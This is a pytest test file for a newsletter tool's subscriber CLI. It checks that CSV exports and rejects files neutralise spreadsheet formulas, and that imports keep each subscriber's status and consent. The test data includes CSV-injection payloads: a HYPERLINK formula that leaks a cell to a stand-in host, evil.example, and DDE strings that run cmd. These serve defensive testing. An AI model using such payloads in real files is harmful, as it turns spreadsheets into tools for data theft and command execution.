"""Issue 11, items 6 and 7: CSV files written for spreadsheets carry no live formulas (OWASP
CSV injection), and an export imported into another database keeps every status, preference
and consent record without resubscribing anyone. Real SQLite files, the real CLI."""

from __future__ import annotations

import csv
import io
import json
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
import sqlalchemy as sa
from typer.testing import CliRunner, Result

from newsletter.audience.subscribers import SubscriberStore
from newsletter.cli import app
from newsletter.cli._app import CliState
from newsletter.config import load_config
from newsletter.models import Preferences
from newsletter.store import open_store
from newsletter.util.clock import FixedClock
from tests.conftest import NOW

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

Cli = Callable[..., Result]


def _cli(tmp_path: Path, name: str) -> tuple[Cli, Path]:
    cfg = tmp_path / f"{name}.toml"
    cfg.write_text(f'[database]\nurl = "sqlite:///{tmp_path / name}.db"\n', encoding="utf-8")

    def run(*args: str) -> Result:
        r = CliRunner().invoke(
            app, ["--config", str(cfg), "subscribers", *args], obj=CliState(clock=FixedClock(NOW))
        )
        assert "Traceback" not in r.output
        return r

    return run, cfg


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


# ---- item 6 -----------------------------------------------------------------------------


def test_exports_and_rejects_files_carry_no_live_formulas(tmp_path: Path) -> None:
    cli, cfg = _cli(tmp_path, "a")
    for i, f in enumerate(FORMULAS):
        r = cli("add", f"f{i}@example.com", "--name", f, "--consent", f)
        assert r.exit_code == 0, r.output
    with open_store(load_config(cfg)) as db:  # a pick stored before picks were checked
        store = SubscriberStore(db, clock=FixedClock(NOW))
        for i, f in enumerate(FORMULAS):
            sub = store.get(f"f{i}@example.com")
            assert sub is not None
            store.set_preferences(sub.id, Preferences(metros=(f,)), paused=False)
    out = tmp_path / "export.csv"
    assert cli("export", "--format", "csv", "--out", str(out)).exit_code == 0
    listed = cli("list", "--format", "csv").stdout
    for text in (out.read_text("utf-8"), listed):
        cells = _cells(text)
        assert not [c for c in cells if c.startswith(TRIGGERS)], text
        assert sum(c.startswith("'=") for c in cells) >= 3 * 2  # name, metro, consent of two

    bad = tmp_path / "bad.csv"
    bad.write_text(
        'email,name\n"=HYPERLINK(""http://x"")",@SUM(A1)\n-1+1@,\n+x,=1\n', encoding="utf-8"
    )
    r = cli("import", str(bad))
    assert r.exit_code == 1, r.output  # every row invalid: nothing imported, said in one line
    rejects = (tmp_path / "bad.rejects.csv").read_text("utf-8")
    assert len(list(csv.reader(io.StringIO(rejects)))) == 4
    assert not [c for c in _cells(rejects) if c.startswith(TRIGGERS)], rejects

    # the neutralised file reads back to the very values it holds
    # (its rows pick a metro the issue never uses: rejected, and the rejects file is safe too)
    cli_b, _ = _cli(tmp_path, "b")
    assert cli_b("import", str(out)).exit_code == 1  # every row rejected
    again = (tmp_path / "export.rejects.csv").read_text("utf-8")
    assert "is not a metro the issue knows" in again
    assert not [c for c in _cells(again) if c.startswith(TRIGGERS)], again
    assert len(list(csv.reader(io.StringIO(again)))) == 1 + len(FORMULAS)


def test_a_rejected_cell_with_spaces_or_a_line_break_before_its_formula_is_neutralised(
    tmp_path: Path,
) -> None:
    # the rejects file holds the imported file's cells as they were, edge spaces and line
    # breaks included: ' =HYPERLINK(...)' runs in a spreadsheet that trims cells on import
    cli, _cfg = _cli(tmp_path, "a")
    bad = tmp_path / "bad.csv"
    bad.write_text(
        "email,name\n"
        '" =HYPERLINK(""http://evil.example/?x=""&A1)",\u00a0@SUM(A1)\n'
        'not-an-address,"\n=1+1"\n',
        encoding="utf-8",
    )
    r = cli("import", str(bad))
    assert r.exit_code == 1, r.output  # nothing imported (every row invalid): rejects kept
    rejects = (tmp_path / "bad.rejects.csv").read_text("utf-8")
    cells = _cells(rejects)
    assert len(cells) == 3 * 4, rejects
    live = [c for c in cells if c.lstrip().startswith((*TRIGGERS, "\n"))]
    assert not live, rejects
    # the quote comes off again on import: the rejects file, fixed, reads back as written
    cells_back = {c[1:] for c in cells if c.startswith("'")}
    assert {' =HYPERLINK("http://evil.example/?x="&A1)', "\u00a0@SUM(A1)", "\n=1+1"} <= cells_back


# ---- item 7 -----------------------------------------------------------------------------


def _comparable(shown: dict[str, object]) -> dict[str, object]:
    sub = shown["subscriber"]
    assert isinstance(sub, dict)
    keep = ("email", "name", "status", "status_reason", "preferences", "consent", "confirmed_at")
    return {k: sub[k] for k in keep} | {"suppressed": shown["suppression"] is not None}


PEOPLE = [
    "active@example.com",
    "paused@example.com",
    "pending@example.com",
    "left@example.com",
    "bounced@example.com",
    "complained@example.com",
    "web@example.com",
]


@pytest.fixture
def source(tmp_path: Path) -> Path:
    """An export of a list with someone in every state."""
    cli, cfg = _cli(tmp_path, "source")
    with open_store(load_config(cfg)) as db:
        store = SubscriberStore(db, clock=FixedClock(NOW))
        picks = Preferences(("Data Scientist",), ("Seattle", "Austin"), ("senior",))
        a = store.add("active@example.com", name="Ann", preferences=picks)
        p = store.add("paused@example.com", name="Pau")
        store.set_preferences(p.id, Preferences(metros=("Boston",)), paused=True)
        for who in ("left", "bounced", "complained", "pending", "web"):
            store.add(f"{who}@example.com", name=who.title())
        store.unsubscribe("left@example.com", "asked by email")
        store.mark_bounced("bounced@example.com", "550 5.1.1 no such user")
        store.mark_complained("complained@example.com", "spam report")
        with db.write() as conn:
            conn.execute(
                sa.text(
                    "UPDATE subscribers SET status = 'pending', confirmed_at = NULL, "
                    "consent_source = 'web', consent_ip = '203.0.113.9', "
                    "consent_text = 'Yes, send me the newsletter' "
                    "WHERE email_key IN ('pending@example.com', 'web@example.com')"
                )
            )
            conn.execute(
                sa.text(
                    "UPDATE subscribers SET status = 'active' WHERE email_key = 'web@example.com'"
                )
            )
        assert a.status == "active"
    export = tmp_path / "list.csv"
    assert cli("export", "--format", "csv", "--out", str(export)).exit_code == 0
    return export


def test_export_then_import_keeps_every_status_preference_and_consent(
    tmp_path: Path, source: Path
) -> None:
    cli_src, _ = _cli(tmp_path, "source")
    before = {e: _comparable(json.loads(cli_src("show", e).stdout)) for e in PEOPLE}
    cli_dst, _ = _cli(tmp_path, "target")
    r = cli_dst("import", str(source))
    assert r.exit_code == 0, r.output
    after = {e: _comparable(json.loads(cli_dst("show", e).stdout)) for e in PEOPLE}
    assert after == before
    assert cli_dst("count", "--status", "active").stdout.strip() == "3"
    again = cli_dst("import", str(source))
    assert "added: 0" in again.stdout and "updated: 0" in again.stdout


def test_an_import_never_resubscribes_a_suppressed_address(tmp_path: Path, source: Path) -> None:
    cli, _ = _cli(tmp_path, "target")
    assert cli("add", "active@example.com").exit_code == 0
    assert cli("remove", "active@example.com", "--yes").exit_code == 0  # erased: digest only
    assert cli("import", str(source)).exit_code == 0
    shown = json.loads(cli("show", "active@example.com").stdout)
    assert shown["subscriber"] is None or shown["subscriber"]["status"] != "active"
    assert shown["suppression"] is not None


@pytest.mark.parametrize("umask", [0o077, 0o022])
def test_exported_and_rejected_lists_get_the_mode_the_umask_gives(
    tmp_path: Path, umask: int
) -> None:
    """Files of addresses are written with the mode the umask gives new files: under
    ``umask 077`` no other user of the host can read the list (it was always 0o644)."""
    _cli_run, cfg = _cli(tmp_path, "m")
    (tmp_path / "list.csv").write_text("email\nok@example.com\nnot-an-address\n", "utf-8")
    for args in (["import", "list.csv"], ["export", "--out", "out.csv"]):
        done = subprocess.run(
            [sys.executable, "-m", "newsletter", "--config", str(cfg), "subscribers", *args],
            cwd=tmp_path,
            umask=umask,
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 0, done.stderr
    for name in ("list.rejects.csv", "out.csv"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o666 & ~umask, name
